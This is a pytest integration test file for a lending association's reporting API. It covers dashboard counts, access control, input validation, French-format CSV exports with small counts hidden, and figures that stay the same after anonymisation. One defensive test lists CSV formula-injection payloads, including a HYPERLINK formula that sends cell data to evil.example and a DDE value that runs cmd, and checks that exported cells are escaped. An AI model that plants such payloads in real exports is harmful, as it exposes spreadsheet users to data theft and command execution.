"""Reports over the API, on both databases: a year with known figures, one site, who may read
them, bad requests, CSV tables for a French spreadsheet with small counts hidden and no cell a
spreadsheet would run, and figures that anonymisation does not change."""

from __future__ import annotations

import csv
import io
from contextlib import AsyncExitStack
from datetime import date

import pytest

from inventory.db.tables import Beneficiary, PartnerOrg, Referral
from inventory.domain.reports import Period, age_band
from inventory.services import reports
from inventory.services.common import SYSTEM, today, utcnow
from inventory.services.privacy import anonymise_inactive, erase
from tests.integration.people_world import build_world
from tests.integration.report_world import a_year_of_activity, person_id, session

YEAR_2025 = {"start": "2025-01-01", "end": "2025-12-31"}


@pytest.fixture
async def world(app):
    async with AsyncExitStack() as stack:
        yield await build_world(app, stack)


def rows_of(board: dict, dimension: str) -> list[tuple]:
    breakdown = next(b for b in board["breakdowns"] if b["dimension"] == dimension)
    return [(r["key"], r["people"], r["loans"], r["autonomous"]) for r in breakdown["rows"]]


def sheet(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


async def test_the_dashboard_of_a_year_counts_what_happened_in_it(world):
    await a_year_of_activity(world)
    response = await world.admin.get("/api/v1/reports/dashboard", params=YEAR_2025)
    assert response.status_code == 200, response.text
    board = response.json()
    assert board["period"] == {"start": "2025-01-01", "end": "2025-12-31"}
    assert board["as_of"] == "2025-12-31"
    people = {k: board[k] for k in ("people_accompanied", "people_first_time",
                                    "autonomous_at_exit", "autonomous_at_follow_up",
                                    "goal_reached", "goal_autonomous")}
    assert people == {"people_accompanied": 5, "people_first_time": 4, "autonomous_at_exit": 1,
                      "autonomous_at_follow_up": 2, "goal_reached": 2, "goal_autonomous": 1000}
    loans = {k: board[k] for k in ("loans_started", "loans_open", "loans_overdue", "loans_lost",
                                   "loans_lost_in_period", "loans_returned", "return_rate")}
    assert loans == {"loans_started": 3, "loans_open": 2, "loans_overdue": 1, "loans_lost": 1,
                     "loans_lost_in_period": 1, "loans_returned": 1, "return_rate": 0.5}
    assert (board["cards_issued"], board["data_supplied_mb"]) == (1, 2500)
    assert (board["repairs_opened"], board["repairs_closed"],
            board["repair_median_days"]) == (3, 3, 4.0)
    assert (board["waiting_now"], board["waiting_average_days"]) == (2, 45.0)
    assert [(f["label"], f["value"]) for f in board["referrals_by_partner"]] == [
        ("CCAS de Bordeaux", 4), ("Mission locale Bordeaux", 1)]
    assert {f["key"]: f["value"] for f in board["devices_by_state"]} == {
        "available": 1, "on_loan": 1, "returned": 2, "lost": 1}
    assert [(s["site"], sum(f["value"] for f in s["states"]))
            for s in board["devices_by_site"]] == [("Les Aubiers", 5)]
    assert rows_of(board, "site") == [("AUB", 4, 2, 1), ("BAC", 1, 1, 0)]
    assert rows_of(board, "commune") == [("Bordeaux", 3, 1, 1), ("Cenon", 1, 1, 0),
                                         ("Floirac", 1, 1, 0)]
    assert rows_of(board, "priority_area") == [("yes", 1, 1, 0), ("no", 4, 2, 1)]
    assert rows_of(board, "age_band") == [("2000", 1, 1, 0), ("1990", 1, 0, 0),
                                          ("1980", 2, 1, 1), ("1950", 1, 1, 0)]
    assert rows_of(board, "situation") == [("minima_sociaux", 4, 2, 1),
                                           ("demandeur_emploi", 1, 1, 0)]
    assert [r[1:] for r in rows_of(board, "partner_org")] == [(4, 2, 1), (1, 1, 0)]


async def test_one_site_counts_its_people_its_loans_and_its_people_s_referrals(world):
    await a_year_of_activity(world)
    response = await world.coordinator.get("/api/v1/reports/dashboard",
                                           params={**YEAR_2025, "site": "AUB"})
    assert response.status_code == 200, response.text
    board = response.json()
    assert (board["site_code"], board["people_accompanied"], board["people_first_time"],
            board["loans_started"], board["loans_open"], board["loans_lost"],
            board["return_rate"]) == ("AUB", 4, 3, 2, 2, 0, 1.0)
    assert [(f["value"]) for f in board["referrals_by_partner"]] == [4]
    assert rows_of(board, "site") == [("AUB", 4, 2, 1)]


async def test_a_period_not_over_takes_its_stock_figures_today(world):
    await a_year_of_activity(world)
    board = (await world.admin.get("/api/v1/reports/dashboard")).json()
    assert board["period"] == {"start": f"{today().year}-01-01",
                               "end": f"{today().year}-12-31"}
    assert board["as_of"] == today().isoformat()
    # Today Hal holds a laptop and Ève her card; Béa's laptop came back in February.
    assert (board["loans_open"], board["loans_overdue"], board["waiting_now"]) == (2, 0, 1)


@pytest.mark.parametrize("who", ["sw_a", "desk_aub", "technician"])
async def test_only_the_association_s_managers_read_reports(world, who):
    for url in ("/api/v1/reports/dashboard", "/api/v1/reports/summary.csv",
                "/api/v1/reports/breakdown-commune.csv"):
        response = await getattr(world, who).get(url)
        assert response.status_code == 403, (url, response.text)
        assert "Bordeaux" not in response.text


@pytest.mark.parametrize(("params", "status", "words"), [
    ({"start": "2025-02-30"}, 422, "2025-02-30"),
    ({"start": "31/12/2025"}, 422, "31/12/2025"),
    ({"start": "2025-06-01", "end": "2025-01-01"}, 422, None),
    ({"start": "2000-01-01", "end": "2025-12-31"}, 422, None),
    ({"start": "0001-01-01", "end": "0001-01-02"}, 422, "2100"),
    ({"start": "x" * 21}, 422, None),
    ({"site": "NOPE"}, 404, "NOPE"),
    ({"site": "S" * 13}, 422, None),  # longer than any site code: refused before any query
])
async def test_bad_dates_and_unknown_sites_get_a_clear_answer(world, params, status, words):
    for url in ("/api/v1/reports/dashboard", "/api/v1/reports/summary.csv"):
        response = await world.admin.get(url, params=params)
        assert response.status_code == status, (url, response.text)
        detail = response.json()["detail"]
        assert detail and (words is None or words in detail), detail


async def test_an_unknown_table_is_not_found(world):
    for name in ("nope.csv", "summary", "summary.json", "breakdown-commune.pdf"):
        response = await world.admin.get(f"/api/v1/reports/{name}")
        assert response.status_code == 404, (name, response.text)


async def test_every_table_downloads_as_a_csv_for_a_french_spreadsheet(world):
    from inventory.domain.report_tables import TABLES

    await a_year_of_activity(world)
    for name in TABLES:
        response = await world.coordinator.get(f"/api/v1/reports/{name}.csv",
                                               params={**YEAR_2025, "site": "AUB"})
        assert response.status_code == 200, (name, response.text)
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["cache-control"] == "no-store"
        assert response.headers["content-disposition"] == (
            f'attachment; filename="rapport-{name}-2025-01-01-2025-12-31-AUB.csv"')
        rows = sheet(response)
        assert len({len(row) for row in rows}) == 1, rows
    summary = {row[0]: row[2] for row in sheet(await world.admin.get(
        "/api/v1/reports/summary.csv", params=YEAR_2025))[1:]}
    assert summary["people_accompanied"] == "5" and summary["loans_started"] == "3"
    assert summary["return_rate"] == "0,5" and summary["repair_median_days"] == "4"
    assert summary["waiting_average_days"] == "" and summary["waiting_now"] == ""  # 2 people
    assert summary["people_first_time"] == "" and summary["period_start"] == "2025-01-01"


async def test_small_counts_are_hidden_in_the_exported_tables(world):
    await a_year_of_activity(world)

    async def table(name: str) -> list[list[str]]:
        return sheet(await world.admin.get(f"/api/v1/reports/{name}.csv", params=YEAR_2025))

    # Aubiers (4 people, 2 loans, 1 autonomous) and Bacalan (1, 1, 0): every count is small;
    # Aubiers' one autonomous person would be the total, so Aubiers goes unnamed.
    assert [row[:1] + row[2:] for row in (await table("breakdown-site"))[1:]] == [
        ["BAC", "", "", "0"], ["other", "", "", ""]]
    # Three communes with one loan each: hiding cells cannot protect them from the total of
    # loans, so they are gathered in one unnamed row.
    assert [row[:1] + row[2:] for row in (await table("breakdown-commune"))[1:]] == [
        ["other", "5", "", ""]]
    assert [row[2] for row in (await table("referrals"))[1:]] == ["", ""]
    assert {row[0]: row[2] for row in (await table("devices"))[1:]} == {
        "available": "1", "on_loan": "1", "returned": "2", "lost": "1"}


async def crowd(world, groups: list[tuple[str, str, int]]) -> None:
    """People at a workshop on 2025-03-03, referred on 2025-03-01: (caller, commune, count)."""
    ids = []
    for caller, commune, count in groups:
        for n in range(count):
            person = await world.person(getattr(world, caller), first_name=f"P{len(ids)}",
                                        last_name=f"Nom{n}", commune=commune, phone=None)
            ids.append(await person_id(person["number"]))
            await Referral(beneficiary=ids[-1], partner_org=person["partner_org_id"],
                           referred_on=date(2025, 3, 1), created_at=utcnow()).save()
    await session(date(2025, 3, 3), {pid: True for pid in ids})


async def test_a_small_count_hides_the_next_smallest_so_the_total_cannot_give_it_back(world):
    await crowd(world, [("sw_a", "Bègles", 7), ("sw_a", "Talence", 6), ("sw_b", "Cenon", 2)])
    rows = sheet(await world.admin.get("/api/v1/reports/breakdown-commune.csv",
                                       params=YEAR_2025))
    assert [row[:3] for row in rows[1:]] == [["Bègles", "Bègles", "7"],
                                             ["Talence", "Talence", ""], ["Cenon", "Cenon", ""]]
    summary = {row[0]: row[2] for row in sheet(await world.admin.get(
        "/api/v1/reports/summary.csv", params=YEAR_2025))[1:]}
    assert summary["people_accompanied"] == "15"


async def test_the_database_puts_each_birth_year_in_the_band_of_the_rule(world):
    years = (1905, 1939, 1940, 1949, 1984, 1989, 1990, 2009, 2010, 2021)
    for n, year in enumerate(years):
        await world.person(world.sw_a, first_name=f"Né{n}", birth_year=year, phone=None)
    ids = [r["id"] for r in await Beneficiary.select(Beneficiary.id)]
    await session(date(2025, 3, 3), {pid: True for pid in ids})
    board = await reports.dashboard(SYSTEM, Period(date(2025, 1, 1), date(2025, 12, 31)))
    bands = next(b for b in board.breakdowns if b.dimension == "age_band")
    expected = {}
    for year in years:
        expected[str(age_band(year))] = expected.get(str(age_band(year)), 0) + 1
    assert {r.key: r.people for r in bands.rows} == expected
    assert [r.key for r in bands.rows] == ["2020", "2010", "2000", "1990", "1980", "1940",
                                           "1930"]
    assert bands.rows[-1].label == "born before 1940"


HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Clic\")", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "+33 6 00", "\t=1+1", "\r=1+1", "Café « à ; la » \"quotes\"")


async def test_no_cell_of_an_exported_table_runs_as_a_formula(world):
    await crowd(world, [("sw_a", "Bègles", 7), ("sw_a", "Talence", 6), ("sw_b", "Cenon", 2)])
    for name in HOSTILE:
        await PartnerOrg.update({PartnerOrg.name: name}).where(PartnerOrg.id == world.org_a)
        await Beneficiary.update({Beneficiary.commune: name}).where(
            Beneficiary.partner_org == world.org_a)
        for table in ("referrals", "breakdown-partner-org", "breakdown-commune"):
            response = await world.admin.get(f"/api/v1/reports/{table}.csv", params=YEAR_2025)
            cells = [cell for row in sheet(response) for cell in row]
            assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
            assert ("'" + name if name[0] in "=+-@\t\r" else name) in cells, (table, cells)


async def test_anonymised_people_count_exactly_as_before(world):
    people = await a_year_of_activity(world)
    periods = [(Period(date(2025, 1, 1), date(2025, 12, 31)), None),
               (Period(date(2025, 1, 1), date(2025, 12, 31)), "AUB"),
               (Period(date(2024, 1, 1), date(2026, 12, 31)), None),
               (Period(date(2025, 7, 1), date(2025, 9, 30)), "BAC")]
    before = [await reports.dashboard(SYSTEM, period, site) for period, site in periods]
    years_before = {r["birth_year"] for r in await Beneficiary.select(Beneficiary.birth_year)}
    await erase(SYSTEM, people["chloe"]["number"])
    report = await anonymise_inactive(24, date(2032, 1, 1))
    assert report.anonymised >= 5
    anonymised = await Beneficiary.count().where(Beneficiary.anonymised_at.is_not_null())
    assert anonymised >= 6
    assert {r["birth_year"] for r in await Beneficiary.select(Beneficiary.birth_year)} != (
        years_before)
    after = [await reports.dashboard(SYSTEM, period, site) for period, site in periods]
    assert after == before
